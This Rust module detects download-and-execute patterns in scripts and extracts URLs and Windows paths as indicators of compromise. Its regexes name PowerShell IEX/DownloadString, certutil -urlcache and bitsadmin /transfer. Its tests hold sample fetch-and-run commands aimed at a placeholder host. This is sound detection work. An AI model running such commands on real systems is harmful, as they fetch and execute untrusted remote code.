//! What a script does that matters most: download and run. Also the URLs and paths it names,
//! for the IOC extraction.
use std::sync::LazyLock;

use regex::bytes::Regex;

/// URLs and paths taken per script.
const MAX_LOCATIONS: usize = 1000;

/// A download-and-run pattern: what must be present together.
struct Pattern {
    name: &'static str,
    all_of: &'static [&'static str],
}

const DOWNLOAD_EXECUTE: [Pattern; 5] = [
    Pattern {
        name: "PowerShell evaluates downloaded text",
        all_of: &[
            r"(?i)\b(?:iex|invoke-expression)\b",
            r"(?i)downloadstring|downloaddata|invoke-webrequest|\biwr\b|invoke-restmethod|\birm\b",
        ],
    },
    Pattern {
        name: "shell object with an HTTP request",
        all_of: &[r"(?i)wscript\.shell|shell\.application", r"(?i)xmlhttp|winhttp\.winhttprequest|adodb\.stream"],
    },
    Pattern { name: "certutil downloads", all_of: &[r"(?i)certutil(?:\.exe)?\b[^\n]*-urlcache"] },
    Pattern { name: "bitsadmin transfers", all_of: &[r"(?i)bitsadmin(?:\.exe)?\b[^\n]*/transfer"] },
    Pattern {
        name: "PowerShell downloads a file and starts it",
        all_of: &[
            r"(?i)downloadfile|start-bitstransfer|invoke-webrequest[^\n]*-outfile",
            r"(?i)start-process|\bstart\b|invoke-item|\.exe\b",
        ],
    },
];

static COMPILED: LazyLock<Vec<(&'static str, Vec<Regex>)>> = LazyLock::new(|| {
    DOWNLOAD_EXECUTE
        .iter()
        .filter_map(|pattern| {
            let regexes: Option<Vec<Regex>> = pattern.all_of.iter().map(|p| Regex::new(p).ok()).collect();
            Some((pattern.name, regexes?))
        })
        .collect()
});

static LOCATION: LazyLock<Option<Regex>> =
    LazyLock::new(|| Regex::new(r#"(?i)\b(?:https?|ftp)://[^\s"'<>()\[\]{}`^|\\]+|\b[a-z]:\\[^\s"'<>|*?]+|%[a-z_]+%\\[^\s"'<>|*?]+"#).ok());

/// The download-and-run patterns `texts` show together.
pub(crate) fn download_execute(texts: &[&[u8]]) -> Vec<&'static str> {
    COMPILED
        .iter()
        .filter(|(_, regexes)| regexes.iter().all(|regex| texts.iter().any(|text| regex.is_match(text))))
        .map(|(name, _)| *name)
        .collect()
}

/// URLs and Windows paths in `text`, each once, in order.
pub(crate) fn locations(text: &[u8]) -> Vec<String> {
    let Some(regex) = LOCATION.as_ref() else { return Vec::new() };
    let mut found: Vec<String> = Vec::new();
    for location in regex.find_iter(text) {
        let location = String::from_utf8_lossy(location.as_bytes()).trim_end_matches(['.', ',', ';']).to_string();
        if !found.contains(&location) {
            found.push(location);
        }
        if found.len() >= MAX_LOCATIONS {
            break;
        }
    }
    found
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn patterns_need_all_their_parts() {
        assert_eq!(download_execute(&[b"IEX (New-Object Net.WebClient).DownloadString('http://x')"]).len(), 1);
        assert!(download_execute(&[b"Write-Host (New-Object Net.WebClient).DownloadString('x')"]).is_empty());
        assert_eq!(download_execute(&[b"certutil -urlcache -f http://x/a a.exe"]), vec!["certutil downloads"]);
        assert_eq!(locations(b"go http://a.invalid/x. and C:\\Temp\\a.exe"), vec!["http://a.invalid/x", "C:\\Temp\\a.exe"]);
    }
}
